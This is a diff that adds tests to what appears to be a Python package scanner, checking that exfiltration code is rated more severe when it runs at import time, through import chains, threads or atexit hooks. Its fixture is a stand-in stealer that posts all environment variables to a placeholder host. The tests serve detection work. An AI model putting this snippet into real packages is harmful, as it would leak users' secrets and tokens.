@@ -588,3 +588,51 @@ def test_setup_py_doing_more_than_setup_is_noted_as_info() -> None:
     busy = "import os\nfrom setuptools import setup\nos.makedirs('x', exist_ok=True)\nsetup()\n"
     result = analyze(artifact({"setup.py": busy}))
     assert "install-time.setup-code" in {f.rule for f in result.findings}
+
+
+STEALER_MODULE = """
+    import os, urllib.request
+
+    def send():
+        urllib.request.urlopen("https://x.invalid/c", data=str(os.environ.copy()).encode())
+"""
+
+
+def _exfil_severities(files: dict[str, str]) -> list[str]:
+    found = analyze(artifact(files)).findings
+    return [f.severity for f in found if f.rule == "intent.exfiltration"]
+
+
+def test_function_called_by_another_modules_import_time_code_runs_on_import() -> None:
+    # only defined: it runs when some caller decides to
+    assert _exfil_severities({"demo/__init__.py": "", "demo/core.py": STEALER_MODULE}) == ["high"]
+    # __init__.py calls it while being imported: it runs on import
+    init = "from .core import send\nsend()\n"
+    files = {"demo/__init__.py": init, "demo/core.py": STEALER_MODULE}
+    assert _exfil_severities(files) == ["critical"]
+    # through a chain of modules and an absolute import, from a module-level helper function
+    files = {
+        "demo/__init__.py": "from . import boot\n\ndef _go():\n    boot.start()\n\n_go()\n",
+        "demo/boot.py": "from demo.core import send\n\ndef start():\n    send()\n",
+        "demo/core.py": STEALER_MODULE,
+    }
+    assert _exfil_severities(files) == ["critical"]
+    # a call under `if __name__ == "__main__":` is not an import
+    main = 'from .core import send\nif __name__ == "__main__":\n    send()\n'
+    assert _exfil_severities({"demo/__main__.py": main, "demo/core.py": STEALER_MODULE}) == ["high"]
+
+
+def test_module_names_of_members() -> None:
+    from pipvet.core.analysis.reach import module_name
+
+    assert module_name("demo-1.0/src/demo/core.py") == "demo.core"
+    assert module_name("demo/__init__.py") == "demo"
+    assert module_name("demo-1.0/manual tests/x.py") is None
+    assert module_name("demo/data.json") is None
+
+
+def test_function_started_in_a_thread_at_import_runs_on_import() -> None:
+    threaded = textwrap.dedent(STEALER_MODULE) + "\nimport threading\nthreading.Thread(target=send).start()\n"
+    assert _exfil_severities({"demo/__init__.py": threaded}) == ["critical"]
+    at_exit = textwrap.dedent(STEALER_MODULE) + "\nimport atexit\natexit.register(send)\n"
+    assert _exfil_severities({"demo/__init__.py": at_exit}) == ["critical"]
